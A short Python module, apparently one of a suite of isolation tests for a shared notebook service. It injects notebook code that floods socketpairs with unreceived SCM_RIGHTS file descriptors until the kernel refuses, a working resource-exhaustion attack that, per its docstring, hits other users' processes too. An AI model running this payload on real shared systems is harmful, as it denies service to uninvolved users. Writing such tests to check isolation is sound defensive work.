"""Sends descriptors that nobody receives: the kernel counts them for all processes of a user, its neighbours' too."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import array, socket, time
kept = []
try:
    while True:
        kept.append(socket.socketpair())
        rights = array.array('i', [0] * 250)
        kept[-1][0].sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
except OSError as error:
    print(error)
time.sleep(3)
""",
    )
